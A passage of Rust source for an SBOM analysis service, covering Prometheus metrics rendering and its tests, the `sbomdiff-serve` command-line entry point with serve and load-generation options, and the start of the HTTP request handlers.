    pub fn matches(&self, tier: MatchTier) -> u64 {
        self.match_pairs[tier.index()].load(Ordering::Relaxed)
    }

    /// Records `n` advisories of `severity` raised by an `/v1/impact`
    /// scan (detected and false alarms both count — they are what an
    /// operator sees).
    pub fn record_advisories(&self, severity: Severity, n: u64) {
        self.advisories_matched[severity.index()].fetch_add(n, Ordering::Relaxed);
    }

    /// Advisories of `severity` raised so far.
    pub fn advisories_matched(&self, severity: Severity) -> u64 {
        self.advisories_matched[severity.index()].load(Ordering::Relaxed)
    }

    /// Records the latest quality `score` observed for `(profile, check)`
    /// — rendered as the `sbomdiff_quality_score` gauge. Use check
    /// `"total"` for the weighted document total.
    pub fn record_quality_score(&self, profile: &str, check: &str, score: f64) {
        self.quality_scores
            .lock()
            .unwrap()
            .insert((profile.to_string(), check.to_string()), score.to_bits());
    }

    /// The latest quality score recorded for `(profile, check)`, if any.
    pub fn quality_score(&self, profile: &str, check: &str) -> Option<f64> {
        self.quality_scores
            .lock()
            .unwrap()
            .get(&(profile.to_string(), check.to_string()))
            .map(|&bits| f64::from_bits(bits))
    }

    /// Bytes ingested from external SBOM documents so far.
    pub fn ingest_bytes(&self) -> u64 {
        self.ingest_bytes.load(Ordering::Relaxed)
    }

    /// External documents ingested with this detected format so far.
    pub fn ingest_documents(&self, format: Option<DocFormat>) -> u64 {
        self.ingest_documents[ingest_index(format)].load(Ordering::Relaxed)
    }

    /// Total requests seen across all endpoints.
    pub fn total_requests(&self) -> u64 {
        self.endpoints
            .iter()
            .map(|e| e.requests.load(Ordering::Relaxed))
            .sum()
    }

    /// Total 5xx responses across all endpoints.
    pub fn total_5xx(&self) -> u64 {
        self.endpoints
            .iter()
            .map(|e| e.responses_5xx.load(Ordering::Relaxed))
            .sum()
    }

    /// 429 rejections so far.
    pub fn rejected(&self) -> u64 {
        self.queue_rejected.load(Ordering::Relaxed)
    }

    /// Deadline timeouts so far.
    pub fn timeouts(&self) -> u64 {
        self.deadline_timeouts.load(Ordering::Relaxed)
    }

    /// Renders the shared parse-cache counters in the same exposition
    /// format, for appending after [`Metrics::render`]. Kept out of
    /// `/v1/analyze` responses: the counters depend on request history, and
    /// analyze responses must stay byte-identical for identical payloads.
    pub fn render_parse_cache(hits: u64, misses: u64) -> String {
        let mut out = String::with_capacity(256);
        family(
            &mut out,
            "sbomdiff_parse_cache_hits_total",
            "counter",
            "Shared parse-cache hits.",
        );
        out.push_str(&format!("sbomdiff_parse_cache_hits_total {hits}\n"));
        family(
            &mut out,
            "sbomdiff_parse_cache_misses_total",
            "counter",
            "Shared parse-cache misses.",
        );
        out.push_str(&format!("sbomdiff_parse_cache_misses_total {misses}\n"));
        out
    }

    /// Renders the shared enrichment-cache counters (advisory lookups by
    /// `(ecosystem, package)`), for appending after [`Metrics::render`]
    /// like [`Metrics::render_parse_cache`].
    pub fn render_enrich_cache(hits: u64, misses: u64, expired: u64) -> String {
        let mut out = String::with_capacity(384);
        family(
            &mut out,
            "sbomdiff_enrich_cache_hits_total",
            "counter",
            "Shared enrichment-cache hits.",
        );
        out.push_str(&format!("sbomdiff_enrich_cache_hits_total {hits}\n"));
        family(
            &mut out,
            "sbomdiff_enrich_cache_misses_total",
            "counter",
            "Shared enrichment-cache misses.",
        );
        out.push_str(&format!("sbomdiff_enrich_cache_misses_total {misses}\n"));
        family(
            &mut out,
            "sbomdiff_enrich_cache_expired_total",
            "counter",
            "Shared enrichment-cache entries evicted after expiry.",
        );
        out.push_str(&format!("sbomdiff_enrich_cache_expired_total {expired}\n"));
        out
    }

    /// Renders the Prometheus text exposition, including the cache and
    /// queue gauges supplied by the caller.
    pub fn render(&self, cache_hits: u64, cache_misses: u64, queue_depth: usize) -> String {
        let mut out = String::with_capacity(8192);
        family(
            &mut out,
            "sbomdiff_requests_total",
            "counter",
            "Requests received, by endpoint.",
        );
        for ep in Endpoint::ALL {
            let stats = &self.endpoints[ep.index()];
            out.push_str(&format!(
                "sbomdiff_requests_total{{endpoint=\"{}\"}} {}\n",
                escape_label_value(ep.label()),
                stats.requests.load(Ordering::Relaxed)
            ));
        }
        family(
            &mut out,
            "sbomdiff_responses_total",
            "counter",
            "Responses written, by endpoint and status class.",
        );
        for ep in Endpoint::ALL {
            let stats = &self.endpoints[ep.index()];
            for (class, counter) in [
                ("2xx", &stats.responses_2xx),
                ("4xx", &stats.responses_4xx),
                ("5xx", &stats.responses_5xx),
            ] {
                out.push_str(&format!(
                    "sbomdiff_responses_total{{endpoint=\"{}\",class=\"{class}\"}} {}\n",
                    escape_label_value(ep.label()),
                    counter.load(Ordering::Relaxed)
                ));
            }
        }
        family(
            &mut out,
            "sbomdiff_diagnostics_total",
            "counter",
            "Classified diagnostics surfaced in responses, by class.",
        );
        for class in DiagClass::ALL {
            out.push_str(&format!(
                "sbomdiff_diagnostics_total{{class=\"{}\"}} {}\n",
                escape_label_value(class.label()),
                self.diagnostics[class.index()].load(Ordering::Relaxed)
            ));
        }
        family(
            &mut out,
            "sbomdiff_ingest_bytes_total",
            "counter",
            "Bytes of external SBOM documents ingested.",
        );
        out.push_str(&format!(
            "sbomdiff_ingest_bytes_total {}\n",
            self.ingest_bytes.load(Ordering::Relaxed)
        ));
        family(
            &mut out,
            "sbomdiff_ingest_documents_total",
            "counter",
            "External SBOM documents ingested, by detected format.",
        );
        for (i, label) in DocFormat::ALL
            .iter()
            .map(|f| f.label())
            .chain(std::iter::once("unknown"))
            .enumerate()
        {
            out.push_str(&format!(
                "sbomdiff_ingest_documents_total{{format=\"{}\"}} {}\n",
                escape_label_value(label),
                self.ingest_documents[i].load(Ordering::Relaxed)
            ));
        }
        family(
            &mut out,
            "sbomdiff_match_total",
            "counter",
            "Component pairs matched by tiered diffs, by tier.",
        );
        for tier in MatchTier::ALL {
            out.push_str(&format!(
                "sbomdiff_match_total{{tier=\"{}\"}} {}\n",
                escape_label_value(tier.label()),
                self.match_pairs[tier.index()].load(Ordering::Relaxed)
            ));
        }
        family(
            &mut out,
            "sbomdiff_advisories_matched_total",
            "counter",
            "Advisories raised by impact scans, by severity.",
        );
        for severity in Severity::ALL {
            out.push_str(&format!(
                "sbomdiff_advisories_matched_total{{severity=\"{}\"}} {}\n",
                escape_label_value(severity.metric_label()),
                self.advisories_matched[severity.index()].load(Ordering::Relaxed)
            ));
        }
        family(
            &mut out,
            "sbomdiff_quality_score",
            "gauge",
            "Latest SBOM quality score observed, by profile and check.",
        );
        for ((profile, check), bits) in self.quality_scores.lock().unwrap().iter() {
            out.push_str(&format!(
                "sbomdiff_quality_score{{profile=\"{}\",check=\"{}\"}} {:.6}\n",
                escape_label_value(profile),
                escape_label_value(check),
                f64::from_bits(*bits)
            ));
        }
        family(
            &mut out,
            "sbomdiff_queue_rejected_total",
            "counter",
            "Requests shed by admission control (429).",
        );
        out.push_str(&format!(
            "sbomdiff_queue_rejected_total {}\n",
            self.queue_rejected.load(Ordering::Relaxed)
        ));
        family(
            &mut out,
            "sbomdiff_deadline_timeouts_total",
            "counter",
            "Requests that exceeded their queue deadline (503).",
        );
        out.push_str(&format!(
            "sbomdiff_deadline_timeouts_total {}\n",
            self.deadline_timeouts.load(Ordering::Relaxed)
        ));
        family(
            &mut out,
            "sbomdiff_timeouts_total",
            "counter",
            "Connection-level timeouts, by phase.",
        );
        for phase in TimeoutPhase::ALL {
            out.push_str(&format!(
                "sbomdiff_timeouts_total{{phase=\"{}\"}} {}\n",
                escape_label_value(phase.label()),
                self.phase_timeouts[phase.index()].load(Ordering::Relaxed)
            ));
        }
        family(
            &mut out,
            "sbomdiff_degraded_total",
            "counter",
            "Analyses that completed in degraded mode.",
        );
        out.push_str(&format!(
            "sbomdiff_degraded_total {}\n",
            self.degraded.load(Ordering::Relaxed)
        ));
        family(
            &mut out,
            "sbomdiff_worker_panics_total",
            "counter",
            "Panics caught at the worker-pool boundary.",
        );
        out.push_str(&format!(
            "sbomdiff_worker_panics_total {}\n",
            self.worker_panics.load(Ordering::Relaxed)
        ));
        family(
            &mut out,
            "sbomdiff_queue_depth",
            "gauge",
            "Requests currently queued.",
        );
        out.push_str(&format!("sbomdiff_queue_depth {queue_depth}\n"));
        family(
            &mut out,
            "sbomdiff_cache_hits_total",
            "counter",
            "Analysis cache hits.",
        );
        out.push_str(&format!("sbomdiff_cache_hits_total {cache_hits}\n"));
        family(
            &mut out,
            "sbomdiff_cache_misses_total",
            "counter",
            "Analysis cache misses.",
        );
        out.push_str(&format!("sbomdiff_cache_misses_total {cache_misses}\n"));
        family(
            &mut out,
            "sbomdiff_cache_hit_ratio",
            "gauge",
            "Analysis cache hit ratio.",
        );
        let lookups = cache_hits + cache_misses;
        let ratio = if lookups == 0 {
            0.0
        } else {
            cache_hits as f64 / lookups as f64
        };
        out.push_str(&format!("sbomdiff_cache_hit_ratio {ratio:.6}\n"));
        family(
            &mut out,
            "sbomdiff_latency_seconds",
            "histogram",
            "Request latency from accept to response written, by endpoint.",
        );
        for ep in Endpoint::ALL {
            let stats = &self.endpoints[ep.index()];
            let mut cumulative = 0u64;
            for (i, bound) in LATENCY_BUCKETS.iter().enumerate() {
                cumulative += stats.latency_buckets[i].load(Ordering::Relaxed);
                out.push_str(&format!(
                    "sbomdiff_latency_seconds_bucket{{endpoint=\"{}\",le=\"{bound}\"}} {cumulative}\n",
                    ep.label()
                ));
            }
            cumulative += stats.latency_buckets[LATENCY_BUCKETS.len()].load(Ordering::Relaxed);
            out.push_str(&format!(
                "sbomdiff_latency_seconds_bucket{{endpoint=\"{}\",le=\"+Inf\"}} {cumulative}\n",
                ep.label()
            ));
            out.push_str(&format!(
                "sbomdiff_latency_seconds_sum{{endpoint=\"{}\"}} {:.6}\n",
                ep.label(),
                stats.latency_sum_micros.load(Ordering::Relaxed) as f64 / 1e6
            ));
            out.push_str(&format!(
                "sbomdiff_latency_seconds_count{{endpoint=\"{}\"}} {cumulative}\n",
                ep.label()
            ));
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classify_routes() {
        assert_eq!(Endpoint::classify("/v1/analyze"), Endpoint::Analyze);
        assert_eq!(Endpoint::classify("/v1/diff"), Endpoint::Diff);
        assert_eq!(Endpoint::classify("/v1/impact"), Endpoint::Impact);
        assert_eq!(Endpoint::classify("/v1/batch"), Endpoint::Batch);
        assert_eq!(Endpoint::classify("/healthz"), Endpoint::Healthz);
        assert_eq!(Endpoint::classify("/metrics"), Endpoint::Metrics);
        assert_eq!(Endpoint::classify("/nope"), Endpoint::Other);
    }

    #[test]
    fn timeout_phases_counted_and_rendered() {
        let m = Metrics::new();
        m.record_timeout_phase(TimeoutPhase::Header);
        m.record_timeout_phase(TimeoutPhase::Header);
        m.record_timeout_phase(TimeoutPhase::Idle);
        assert_eq!(m.timeouts_phase(TimeoutPhase::Header), 2);
        assert_eq!(m.timeouts_phase(TimeoutPhase::Body), 0);
        assert_eq!(m.timeouts_phase(TimeoutPhase::Idle), 1);
        let text = m.render(0, 0, 0);
        assert!(text.contains("sbomdiff_timeouts_total{phase=\"header\"} 2"));
        assert!(text.contains("sbomdiff_timeouts_total{phase=\"body\"} 0"));
        assert!(text.contains("sbomdiff_timeouts_total{phase=\"idle\"} 1"));
    }

    #[test]
    fn record_and_render() {
        let m = Metrics::new();
        m.record(Endpoint::Analyze, 200, Duration::from_micros(300));
        m.record(Endpoint::Analyze, 200, Duration::from_millis(3));
        m.record(Endpoint::Diff, 400, Duration::from_micros(50));
        m.record_rejected();
        m.record_timeout();
        m.record_degraded();
        m.record_worker_panic();
        assert_eq!(m.total_requests(), 3);
        assert_eq!(m.total_5xx(), 0);
        assert_eq!(m.degraded(), 1);
        assert_eq!(m.worker_panics(), 1);
        let text = m.render(5, 10, 2);
        assert!(text.contains("sbomdiff_degraded_total 1"));
        assert!(text.contains("sbomdiff_worker_panics_total 1"));
        assert!(text.contains("sbomdiff_requests_total{endpoint=\"analyze\"} 2"));
        assert!(text.contains("sbomdiff_responses_total{endpoint=\"diff\",class=\"4xx\"} 1"));
        assert!(text.contains("sbomdiff_queue_rejected_total 1"));
        assert!(text.contains("sbomdiff_deadline_timeouts_total 1"));
        assert!(text.contains("sbomdiff_queue_depth 2"));
        assert!(text.contains("sbomdiff_cache_hits_total 5"));
        assert!(text.contains("sbomdiff_cache_hit_ratio 0.333333"));
        assert!(text.contains("sbomdiff_latency_seconds_count{endpoint=\"analyze\"} 2"));
    }

    #[test]
    fn histogram_buckets_are_cumulative() {
        let m = Metrics::new();
        m.record(Endpoint::Healthz, 200, Duration::from_micros(100));
        m.record(Endpoint::Healthz, 200, Duration::from_secs(2)); // +Inf bucket
        let text = m.render(0, 0, 0);
        assert!(
            text.contains("sbomdiff_latency_seconds_bucket{endpoint=\"healthz\",le=\"0.00025\"} 1")
        );
        assert!(
            text.contains("sbomdiff_latency_seconds_bucket{endpoint=\"healthz\",le=\"+Inf\"} 2")
        );
    }

    #[test]
    fn parse_cache_exposition_renders_counters() {
        let text = Metrics::render_parse_cache(7, 3);
        assert!(text.contains("sbomdiff_parse_cache_hits_total 7"));
        assert!(text.contains("sbomdiff_parse_cache_misses_total 3"));
    }

    #[test]
    fn ingest_counters_render_per_format_with_unknown_slot() {
        let m = Metrics::new();
        // Edge cases: zero-byte document, unknown format, repeated counts.
        m.record_ingest(Some(DocFormat::CycloneDxJson), 1024);
        m.record_ingest(Some(DocFormat::CycloneDxJson), 0);
        m.record_ingest(Some(DocFormat::SpdxTagValue), 76);
        m.record_ingest(None, 3);
        assert_eq!(m.ingest_bytes(), 1103);
        assert_eq!(m.ingest_documents(Some(DocFormat::CycloneDxJson)), 2);
        assert_eq!(m.ingest_documents(Some(DocFormat::SpdxJson)), 0);
        assert_eq!(m.ingest_documents(Some(DocFormat::SpdxTagValue)), 1);
        assert_eq!(m.ingest_documents(None), 1);
        let text = m.render(0, 0, 0);
        assert!(text.contains("sbomdiff_ingest_bytes_total 1103"));
        assert!(text.contains("sbomdiff_ingest_documents_total{format=\"cyclonedx\"} 2"));
        assert!(text.contains("sbomdiff_ingest_documents_total{format=\"spdx-json\"} 0"));
        assert!(text.contains("sbomdiff_ingest_documents_total{format=\"spdx-tag-value\"} 1"));
        assert!(text.contains("sbomdiff_ingest_documents_total{format=\"unknown\"} 1"));
    }

    #[test]
    fn match_counters_render_per_tier() {
        let m = Metrics::new();
        m.record_matches(MatchTier::Exact, 12);
        m.record_matches(MatchTier::Normalized, 3);
        m.record_matches(MatchTier::Normalized, 1);
        assert_eq!(m.matches(MatchTier::Exact), 12);
        assert_eq!(m.matches(MatchTier::Normalized), 4);
        assert_eq!(m.matches(MatchTier::Fuzzy), 0);
        let text = m.render(0, 0, 0);
        assert!(text.contains("sbomdiff_match_total{tier=\"exact\"} 12"));
        assert!(text.contains("sbomdiff_match_total{tier=\"normalized\"} 4"));
        assert!(text.contains("sbomdiff_match_total{tier=\"fuzzy\"} 0"));
    }

    #[test]
    fn advisory_counters_render_per_severity() {
        let m = Metrics::new();
        m.record_advisories(Severity::Critical, 2);
        m.record_advisories(Severity::Medium, 1);
        m.record_advisories(Severity::Medium, 4);
        assert_eq!(m.advisories_matched(Severity::Critical), 2);
        assert_eq!(m.advisories_matched(Severity::Medium), 5);
        assert_eq!(m.advisories_matched(Severity::Low), 0);
        let text = m.render(0, 0, 0);
        assert!(text.contains("sbomdiff_advisories_matched_total{severity=\"critical\"} 2"));
        assert!(text.contains("sbomdiff_advisories_matched_total{severity=\"medium\"} 5"));
        assert!(text.contains("sbomdiff_advisories_matched_total{severity=\"low\"} 0"));
        assert!(text.contains("sbomdiff_advisories_matched_total{severity=\"high\"} 0"));
    }

    #[test]
    fn enrich_cache_exposition_renders_counters() {
        let text = Metrics::render_enrich_cache(11, 4, 2);
        assert!(text.contains("sbomdiff_enrich_cache_hits_total 11"));
        assert!(text.contains("sbomdiff_enrich_cache_misses_total 4"));
        assert!(text.contains("sbomdiff_enrich_cache_expired_total 2"));
    }

    #[test]
    fn label_values_escape_per_text_format() {
        assert_eq!(escape_label_value("plain"), "plain");
        assert_eq!(escape_label_value("a\"b"), "a\\\"b");
        assert_eq!(escape_label_value("a\\b"), "a\\\\b");
        assert_eq!(escape_label_value("a\nb"), "a\\nb");
        // Backslash escapes first, so an already-escaped quote survives.
        assert_eq!(escape_label_value("\\\""), "\\\\\\\"");
    }

    #[test]
    fn quality_scores_render_as_gauges() {
        let m = Metrics::new();
        m.record_quality_score("trivy-like", "supplier", 62.5);
        m.record_quality_score("trivy-like", "total", 71.25);
        m.record_quality_score("best-practice", "total", 100.0);
        assert_eq!(m.quality_score("trivy-like", "supplier"), Some(62.5));
        assert_eq!(m.quality_score("trivy-like", "nope"), None);
        let text = m.render(0, 0, 0);
        assert!(text.contains("# TYPE sbomdiff_quality_score gauge"));
        assert!(text
            .contains("sbomdiff_quality_score{profile=\"best-practice\",check=\"total\"} 100.000000"));
        assert!(text
            .contains("sbomdiff_quality_score{profile=\"trivy-like\",check=\"supplier\"} 62.500000"));
        // Re-recording overwrites: it is a gauge, not a counter.
        m.record_quality_score("trivy-like", "supplier", 50.0);
        assert_eq!(m.quality_score("trivy-like", "supplier"), Some(50.0));
    }

    /// Scrape-format conformance for the full exposition: every family
    /// has `# HELP` immediately before `# TYPE`, no family is declared
    /// twice, every sample belongs to a declared family, and label
    /// sections carry balanced, escaped quoting.
    #[test]
    fn exposition_format_conformance() {
        let m = Metrics::new();
        m.record(Endpoint::Analyze, 200, Duration::from_micros(300));
        m.record_diagnostic(DiagClass::MalformedFile);
        m.record_ingest(Some(DocFormat::CycloneDxJson), 10);
        m.record_quality_score("trivy-like", "supplier", 62.5);
        m.record_quality_score("weird\"\\\n", "total", 10.0);
        let mut text = m.render(1, 2, 0);
        text.push_str(&Metrics::render_parse_cache(3, 4));
        text.push_str(&Metrics::render_enrich_cache(5, 6, 7));

        let mut declared: Vec<String> = Vec::new();
        let mut last_help: Option<String> = None;
        for line in text.lines() {
            if let Some(rest) = line.strip_prefix("# HELP ") {
                let name = rest.split(' ').next().unwrap().to_string();
                assert!(rest.len() > name.len() + 1, "HELP without text: {line}");
                last_help = Some(name);
                continue;
            }
            if let Some(rest) = line.strip_prefix("# TYPE ") {
                let mut parts = rest.split(' ');
                let name = parts.next().unwrap().to_string();
                let kind = parts.next().unwrap_or("");
                assert!(
                    matches!(kind, "counter" | "gauge" | "histogram"),
                    "bad TYPE: {line}"
                );
                assert_eq!(
                    last_help.as_deref(),
                    Some(name.as_str()),
                    "TYPE without matching HELP directly before it: {line}"
                );
                assert!(!declared.contains(&name), "family declared twice: {name}");
                declared.push(name);
                continue;
            }
            assert!(!line.starts_with('#'), "unknown comment form: {line}");
            let name = line.split(['{', ' ']).next().unwrap();
            let base = name
                .strip_suffix("_bucket")
                .or_else(|| name.strip_suffix("_sum"))
                .or_else(|| name.strip_suffix("_count"))
                .unwrap_or(name);
            assert!(
                declared.iter().any(|d| d == name || d == base),
                "sample without a declared family: {line}"
            );
            // The sample must end in a space-separated value.
            let value = line.rsplit(' ').next().unwrap();
            assert!(value.parse::<f64>().is_ok(), "bad sample value: {line}");
            // Label sections: every quote inside must be paired or escaped.
            if let Some(open) = line.find('{') {
                let close = line.rfind('}').expect("unterminated label set");
                let labels = &line[open + 1..close];
                let mut quotes = 0u32;
                let mut chars = labels.chars();
                while let Some(c) = chars.next() {
                    match c {
                        '\\' => {
                            chars.next();
                        }
                        '"' => quotes += 1,
                        _ => {}
                    }
                }
                assert_eq!(quotes % 2, 0, "unbalanced quotes: {line}");
            }
        }
        // The hostile profile label rendered escaped, on a single line.
        assert!(
            text.contains("profile=\"weird\\\"\\\\\\n\",check=\"total\""),
            "escaped hostile label missing"
        );
    }

    #[test]
    fn statuses_5xx_counted() {
        let m = Metrics::new();
        m.record(Endpoint::Other, 503, Duration::ZERO);
        assert_eq!(m.total_5xx(), 1);
    }

    #[test]
    fn diagnostics_counted_per_class() {
        let m = Metrics::new();
        m.record_diagnostic(DiagClass::MalformedFile);
        m.record_diagnostic(DiagClass::MalformedFile);
        m.record_diagnostic(DiagClass::UnpinnedDropped);
        assert_eq!(m.diagnostics(DiagClass::MalformedFile), 2);
        assert_eq!(m.diagnostics(DiagClass::TruncatedInput), 0);
        assert_eq!(m.total_diagnostics(), 3);
        let text = m.render(0, 0, 0);
        assert!(text.contains("sbomdiff_diagnostics_total{class=\"malformed-file\"} 2"));
        assert!(text.contains("sbomdiff_diagnostics_total{class=\"unpinned-dropped\"} 1"));
        assert!(text.contains("sbomdiff_diagnostics_total{class=\"io-error\"} 0"));
    }
}

//! `sbomdiff-serve` — the offline SBOM analysis service binary.
//!
//! Subcommands:
//!
//! * `serve`   — run the HTTP server until SIGINT/SIGTERM.
//! * `loadgen` — benchmark an in-process server with concurrent synthetic
//!   clients and optionally write `BENCH_service.json`.

use std::process::ExitCode;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use sbomdiff_service::loadgen::{self, LoadgenConfig};
use sbomdiff_service::server::{ServeConfig, Server};

const VERSION: &str = env!("CARGO_PKG_VERSION");

const USAGE: &str = "\
sbomdiff-serve - offline SBOM analysis service

USAGE:
    sbomdiff-serve serve [OPTIONS]
    sbomdiff-serve loadgen [OPTIONS]
    sbomdiff-serve --help | --version

SERVE OPTIONS:
    --port <N>             TCP port to bind on 127.0.0.1 (default 8043; 0 = ephemeral)
    --jobs <N>             worker threads (default: SBOMDIFF_JOBS or available cores)
    --queue <N>            bounded queue capacity; overflow answers 429 (default 128)
    --deadline-ms <N>      per-request queueing deadline; expiry answers 503 (default 10000)
    --header-timeout-ms <N> stalled partial-request timeout; expiry answers 408 (default 5000)
    --idle-timeout-ms <N>  idle keep-alive connection timeout (default 10000)
    --backlog <N>          listen(2) backlog (default 1024)
    --cache <N>            response cache capacity in entries (default 256)
    --seed <N>             default world seed for /v1/analyze and /v1/impact (default 42)

LOADGEN OPTIONS:
    --requests <N>     total requests to send (default 1000)
    --clients <N>      concurrent clients (default 4)
    --payloads <N>     distinct payloads to rotate through (default 12)
    --jobs <N>         server worker threads (default: policy)
    --seed <N>         corpus/payload seed (default 42)
    --no-keep-alive    reconnect per request instead of HTTP/1.1 keep-alive
    --impact           drive batched /v1/impact payloads only (enrichment path)
    --sweep            also run the clients x payloads x keep-alive grid
    --out <PATH>       write benchmark JSON to PATH

ENDPOINTS:
    POST /v1/analyze   {\"files\": {path: text, ...}, \"seed\"?, \"include_sboms\"?, ...}
    POST /v1/diff      {\"a\": <sbom doc>, \"b\": <sbom doc>}
    POST /v1/impact    {\"sbom\": <doc>} or {\"sboms\": [<doc>, ...]}, \"vulnerable_share\"?, \"truth\"?, ...
    POST /v1/batch     {\"requests\": [{\"path\": \"/v1/...\", \"body\": {...}}, ...]}
    GET  /healthz      liveness probe
    GET  /metrics      Prometheus text exposition
";

static SHUTDOWN: AtomicBool = AtomicBool::new(false);

#[cfg(unix)]
mod sig {
    use super::SHUTDOWN;

    // Minimal libc-free signal hookup: `signal(2)` is in every libc the
    // toolchain links anyway. The handler only flips an AtomicBool, which
    // is async-signal-safe.
    extern "C" {
        fn signal(signum: i32, handler: usize) -> usize;
    }

    const SIGINT: i32 = 2;
    const SIGTERM: i32 = 15;

    extern "C" fn on_signal(_signum: i32) {
        SHUTDOWN.store(true, std::sync::atomic::Ordering::SeqCst);
    }

    pub fn install() {
        let handler = on_signal as *const () as usize;
        unsafe {
            signal(SIGINT, handler);
            signal(SIGTERM, handler);
        }
    }
}

#[cfg(not(unix))]
mod sig {
    pub fn install() {}
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match args.first().map(String::as_str) {
        Some("--help") | Some("-h") | Some("help") | None => {
            print!("{USAGE}");
            ExitCode::SUCCESS
        }
        Some("--version") | Some("-V") | Some("version") => {
            println!("sbomdiff-serve {VERSION}");
            ExitCode::SUCCESS
        }
        Some("serve") => cmd_serve(&args[1..]),
        Some("loadgen") => cmd_loadgen(&args[1..]),
        Some(other) => {
            eprintln!("error: unknown subcommand `{other}`\n\n{USAGE}");
            ExitCode::from(2)
        }
    }
}

fn cmd_serve(args: &[String]) -> ExitCode {
    let mut config = ServeConfig {
        port: 8043,
        ..ServeConfig::default()
    };
    let mut it = args.iter();
    while let Some(flag) = it.next() {
        match flag.as_str() {
            "--help" | "-h" => {
                print!("{USAGE}");
                return ExitCode::SUCCESS;
            }
            "--port" => match parse_num(it.next(), flag) {
                Ok(v) => config.port = v as u16,
                Err(code) => return code,
            },
            "--jobs" => match parse_num(it.next(), flag) {
                Ok(v) => config.jobs = v as usize,
                Err(code) => return code,
            },
            "--queue" => match parse_num(it.next(), flag) {
                Ok(v) => config.queue_capacity = (v as usize).max(1),
                Err(code) => return code,
            },
            "--deadline-ms" => match parse_num(it.next(), flag) {
                Ok(v) => config.deadline = Duration::from_millis(v),
                Err(code) => return code,
            },
            "--header-timeout-ms" => match parse_num(it.next(), flag) {
                Ok(v) => config.header_timeout = Duration::from_millis(v.max(1)),
                Err(code) => return code,
            },
            "--idle-timeout-ms" => match parse_num(it.next(), flag) {
                Ok(v) => config.idle_timeout = Duration::from_millis(v.max(1)),
                Err(code) => return code,
            },
            "--backlog" => match parse_num(it.next(), flag) {
                Ok(v) => config.backlog = (v as i32).max(1),
                Err(code) => return code,
            },
            "--cache" => match parse_num(it.next(), flag) {
                Ok(v) => config.cache_capacity = (v as usize).max(1),
                Err(code) => return code,
            },
            "--seed" => match parse_num(it.next(), flag) {
                Ok(v) => config.seed = v,
                Err(code) => return code,
            },
            other => {
                eprintln!("error: unknown serve option `{other}`\n\n{USAGE}");
                return ExitCode::from(2);
            }
        }
    }

    sig::install();
    let mut server = match Server::start(config) {
        Ok(s) => s,
        Err(err) => {
            eprintln!("error: failed to start server: {err}");
            return ExitCode::FAILURE;
        }
    };
    println!(
        "sbomdiff-serve {VERSION} listening on http://{}",
        server.addr()
    );
    while !SHUTDOWN.load(Ordering::SeqCst) {
        std::thread::sleep(Duration::from_millis(50));
    }
    eprintln!("shutting down: draining queue and joining workers");
    server.shutdown();
    ExitCode::SUCCESS
}

fn cmd_loadgen(args: &[String]) -> ExitCode {
    let mut config = LoadgenConfig::default();
    let mut sweep = false;
    let mut it = args.iter();
    while let Some(flag) = it.next() {
        match flag.as_str() {
            "--help" | "-h" => {
                print!("{USAGE}");
                return ExitCode::SUCCESS;
            }
            "--requests" => match parse_num(it.next(), flag) {
                Ok(v) => config.requests = v as usize,
                Err(code) => return code,
            },
            "--clients" => match parse_num(it.next(), flag) {
                Ok(v) => config.clients = (v as usize).max(1),
                Err(code) => return code,
            },
            "--payloads" => match parse_num(it.next(), flag) {
                Ok(v) => config.payloads = (v as usize).max(1),
                Err(code) => return code,
            },
            "--jobs" => match parse_num(it.next(), flag) {
                Ok(v) => config.jobs = v as usize,
                Err(code) => return code,
            },
            "--seed" => match parse_num(it.next(), flag) {
                Ok(v) => config.seed = v,
                Err(code) => return code,
            },
            "--keep-alive" => config.keep_alive = true,
            "--no-keep-alive" => config.keep_alive = false,
            "--impact" => config.impact_only = true,
            "--sweep" => sweep = true,
            "--out" => match it.next() {
                Some(path) => config.out = Some(path.clone()),
                None => {
                    eprintln!("error: --out requires a path");
                    return ExitCode::from(2);
                }
            },
            other => {
                eprintln!("error: unknown loadgen option `{other}`\n\n{USAGE}");
                return ExitCode::from(2);
            }
        }
    }

    let result = if sweep {
        loadgen::run_sweep(&config).map(|(summary, cells)| {
            for cell in &cells {
                let (p50, _, p99, max) = cell.latency_us;
                println!(
                    "sweep: clients={:<2} payloads={:<2} keep_alive={:<5} rps={:<8.0} p50={p50}us p99={p99}us max={max}us non_2xx={}",
                    cell.clients, cell.payloads, cell.keep_alive, cell.throughput_rps, cell.non_2xx
                );
            }
            summary
        })
    } else {
        loadgen::run(&config)
    };
    match result {
        Ok(summary) => {
            print!("{}", summary.report());
            if let Some(path) = &config.out {
                println!("wrote {path}");
            }
            if summary.ok() {
                ExitCode::SUCCESS
            } else {
                eprintln!(
                    "loadgen FAILED: non_2xx={} inconsistent_payloads={} cache_hits={}",
                    summary.non_2xx(),
                    summary.inconsistent_payloads,
                    summary.cache_hits
                );
                ExitCode::FAILURE
            }
        }
        Err(err) => {
            eprintln!("error: loadgen failed: {err}");
            ExitCode::FAILURE
        }
    }
}

fn parse_num(value: Option<&String>, flag: &str) -> Result<u64, ExitCode> {
    match value.and_then(|v| v.parse::<u64>().ok()) {
        Some(v) => Ok(v),
        None => {
            eprintln!("error: {flag} requires a non-negative integer");
            Err(ExitCode::from(2))
        }
    }
}

//! Request handlers: JSON in, JSON out.
//!
//! Every handler is a *pure function* of the request body — seeds are part
//! of the payload, nothing reads clocks or thread state — which is what
//! makes responses cacheable byte-for-byte and identical for every worker
//! count (the same discipline `sbomdiff-parallel` imposes on the batch
//! pipeline).

use std::collections::HashMap;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::{Arc, Mutex, PoisonError};

use sbomdiff_diff::{jaccard, key_set};
use sbomdiff_faultline as fault;
use sbomdiff_generators::{BestPracticeGenerator, ParseCache, SbomGenerator, ScanContext, ToolId};
use sbomdiff_matching::{match_sboms, MatchConfig, MatchTier};
use sbomdiff_metadata::RepoFs;
use sbomdiff_quality::QualityCheck;
use sbomdiff_registry::Registries;
use sbomdiff_sbomfmt::{ingest, SbomFormat};
use sbomdiff_textformats::{json, Value};
use sbomdiff_types::{DiagClass, Diagnostic, Ecosystem, ResolvedPackage, Sbom, Version};
use sbomdiff_vuln::{assess_cached, AdvisoryDb, EnrichCache, ImpactReport};

use crate::http::{Request, Response};
use crate::metrics::Metrics;
use crate::respcache::{CacheEntry, ResponseCache};

/// Maximum number of files accepted by `/v1/analyze`.
